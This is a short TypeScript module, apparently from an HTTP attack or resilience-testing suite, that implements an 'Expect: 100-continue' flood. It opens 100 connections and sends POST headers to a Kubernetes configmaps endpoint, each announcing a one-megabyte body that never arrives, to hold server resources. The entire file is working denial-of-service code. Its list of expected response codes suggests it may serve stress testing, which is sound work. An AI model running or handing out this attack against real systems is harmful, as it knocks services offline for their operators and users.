// Requests that ask for 100 Continue, and send nothing then.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

export const attack: Attack = {
  reference: 'Expect: 100-continue flood',
  does: 'announces bodies that never come',
  who: ['known', 'unknown'],
  answers: ['100', '200', '401', '403', '408', '413', '417'],
  run: (target, signal) => {
    const post = head1(
      target,
      'POST /api/v1/namespaces/default/configmaps',
      'Expect: 100-continue',
      'Content-Length: 1000000',
    )
    return attackHttp1(target, signal, { connections: 100 }, (wire) => {
      const pieces = [post]
      return { next: () => pieces.shift(), answered: () => wire.close() }
    })
  },
}
